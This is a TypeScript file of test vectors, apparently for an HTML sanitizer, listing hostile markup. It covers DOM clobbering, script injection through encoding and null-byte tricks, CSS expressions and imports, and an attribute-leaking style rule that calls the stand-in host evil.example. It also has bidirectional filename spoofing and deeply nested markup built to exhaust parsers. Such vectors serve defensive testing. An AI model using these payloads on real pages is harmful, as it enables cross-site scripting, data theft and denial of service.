import type { Vector } from './vectors.ts';

const list = [
  ['id that hides a function of the page', '<a id=pwn href="#pwn">text</a><p id=alert>text</p>'],
  ['name that hides the cookies', '<img name=cookie src=x><a name=cookie href="#cookie">text</a>'],
  ['form that hides a property', '<form id=x><input name=attributes><input name=parentNode></form>'],
  ['id that hides the body', '<p id=body><a id=getElementById href="#getElementById">text</a></p>'],
  [
    'two ids that make a collection',
    '<a id=config href="#config"></a><a id=config name=url href="#config">text</a>',
  ],
  ['id of a prototype', '<p id=__proto__>a</p><a href="#__proto__">text</a>'],
  ['id with quotes', `<p id='"><script>pwn()</script>'>a</p><a href='#"><script>pwn()</script>'>text</a>`],
  ['class of the site', '<p class="site-header is-draft" style="position:fixed;inset:0">text</p>'],
  [
    'style over the whole page',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">text</div>',
  ],
  ['style with an expression', '<p style="width:expression(pwn())">text</p>'],
  ['style with an address', '<p style="background:url(https://evil.example/x)">text</p>'],
  ['style with a script address', '<p style="background:url(javascript:pwn())">text</p>'],
  [
    'style with a behaviour',
    '<p style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)">text</p>',
  ],
  ['style with escapes', String.raw`<p style="wid\74h:e\78pression(pwn())">text</p>`],
  ['style with an import', `<p style="@import'https://evil.example/x'">text</p>`],
  ['style that leaks attributes', '<style>a[href^="x"]{background:url(https://evil.example/?x)}</style>text'],
  ['UTF-7', '+ADw-script+AD4-pwn()+ADw-/script+AD4-'],
  ['overlong UTF-8 read as Latin 1', 'À¼script¾pwn()À¼/script¾'],
  ['brackets of another width', '＜script＞pwn()＜/script＞'],
  ['brackets that fold to brackets', '﹤script﹥pwn()﹤/script﹥ ‹script›pwn()‹/script›'],
  ['escapes of script', String.raw`\u003cscript\u003epwn()\u003c/script\u003e`],
  ['escapes of a URL', '%3Cscript%3Epwn()%3C/script%3E'],
  ['US-ASCII with a high bit', '¼script¾pwn()¼/script¾'],
  ['ISO-2022-JP escape', '<p title="\u001b$B">\u001b(B<img src=x onerror=pwn()>text</p>'],
  ['null bytes between letters', '<\0i\0m\0g\0 src=x onerror=pwn()>'],
  ['null bytes in text', '<p>te\0xt \0<script\0>pwn()</script\0></p>'],
  ['null as an entity', '<a href="java&#0;script:pwn()">text</a>'],
  ['entity beyond Unicode', '<p>&#x110000;&#xFFFFFFFF;&#55296;text</p>'],
  ['half a pair', '<p>\ud800text\udc00</p>'],
  ['bidirectional override', '<p>access \u202etxet lanigiro\u202c text</p>'],
  [
    'bidirectional override by entities',
    '<p>&#8238;text</p><a href="https://site.example/">&#x202D;text</a>',
  ],
  ['bidirectional embeddings without end', `<p>${'\u202a\u202b'.repeat(200)}text</p>`],
  [
    'bidirectional override in an attribute',
    '<img alt="\u202egpj.exe" src=x><abbr title="\u202egpj.exe">text</abbr>',
  ],
  ['invisible controls', '<p>\u0007\u0008\u007f\u009ftext\ufeff\ufff9</p>'],
  ['line separators', '<p>text\u2028pwn()\u2029text</p>'],
  ['nested a hundred thousand deep', `${'<div><b>'.repeat(50_000)}text`],
  ['lists nested twenty thousand deep', `${'<ul><li>'.repeat(20_000)}text`],
  ['quotes nested and closed', `${'<blockquote>'.repeat(20_000)}text${'</blockquote>'.repeat(20_000)}`],
  ['tables nested', `${'<table><tr><td>'.repeat(10_000)}text`],
  ['links nested', `${'<a href="https://site.example/">'.repeat(20_000)}text`],
  ['spans with languages nested', `${'<span lang=fa><span lang=ps>'.repeat(10_000)}text`],
  ['SVG nested', `text${'<svg><g>'.repeat(20_000)}${'</g></svg>'.repeat(20_000)}`],
  ['end tags of nothing', `${'</div></p></b>'.repeat(20_000)}text`],
  ['brackets only', `${'<'.repeat(50_000)}text`],
  ['entities only', `${'&amp;'.repeat(20_000)}text`],
  ['an entity without end', `&${'a'.repeat(50_000)}text`],
  ['quotes without end', `<p title="${'x'.repeat(50_000)}`],
  [
    'formatting around thousands of paragraphs',
    `<b><i><u><a href="https://site.example/${'x'.repeat(2_000)}">${'<p>text'.repeat(2_000)}`,
  ],
  [
    'template text for a program',
    '<p>{{constructor.constructor("pwn()")()}} <%= pwn() %> [[pwn()]] #{pwn()}</p>',
  ],
] as const;

const swallowing: ReadonlySet<string> = new Set(['quotes without end']);

export const pageAttacks: readonly Vector[] = list.map(([name, html]) => ({
  name,
  html,
  swallowsRest: swallowing.has(name),
}));
